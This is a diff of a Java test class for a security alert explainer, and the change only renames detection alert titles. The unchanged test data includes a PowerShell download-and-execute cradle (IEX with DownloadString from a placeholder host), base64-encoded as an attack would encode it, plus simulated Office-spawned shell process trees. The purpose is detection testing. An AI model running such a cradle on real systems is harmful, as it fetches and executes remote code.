@@ -63,7 +63,7 @@ class ExplainerTest {
 
     @Test
     void whatMatchedIsToldInWordsWithTheEncodedCommandBesideIt() {
-        AlertView alert = alert("PowerShell Started With An Encoded Command");
+        AlertView alert = alert("PowerShell Execution With Encoded Command");
         String command = "IEX (New-Object Net.WebClient).DownloadString('https://docs-corp.example/w02')";
         String encoded = Base64.getEncoder().encodeToString(command.getBytes(StandardCharsets.UTF_16LE));
         String raw = process(
@@ -107,7 +107,7 @@ class ExplainerTest {
 
     @Test
     void aCorrelationSaysWhatItCountedInGroups() {
-        AlertView alert = alert("SSH Password Guessed And Used");
+        AlertView alert = alert("Successful Logon After SSH Password Guessing");
         List<TelemetryView> records = new ArrayList<>();
         for (int i = 12; i > 0; i--) {
             records.add(record(
@@ -132,8 +132,8 @@ class ExplainerTest {
 
     @Test
     void theProcessesOfACaseAreATree() {
-        AlertView office = alert("Office Program Started A Shell");
-        AlertView encoded = alert("PowerShell Started With An Encoded Command");
+        AlertView office = alert("Shell Spawned By Office Application");
+        AlertView encoded = alert("PowerShell Execution With Encoded Command");
         String shell = process("{B}", "C:\\cmd.exe", "cmd /c x", "{A}", "C:\\WINWORD.EXE");
         String power = process("{C}", "C:\\powershell.exe", "powershell -enc SQBFAFgA", "{B}", "C:\\cmd.exe");
 
@@ -156,7 +156,7 @@ class ExplainerTest {
 
     @Test
     void recordsThatLieMakeNoEndlessTree() {
-        AlertView alert = alert("Office Program Started A Shell");
+        AlertView alert = alert("Shell Spawned By Office Application");
         List<TelemetryView> records = new ArrayList<>(List.of(
                 record(1, process("{A}", "C:\\a.exe", "a", "{B}", "C:\\b.exe")),
                 record(2, process("{B}", "C:\\b.exe", "b", "{A}", "C:\\a.exe")),
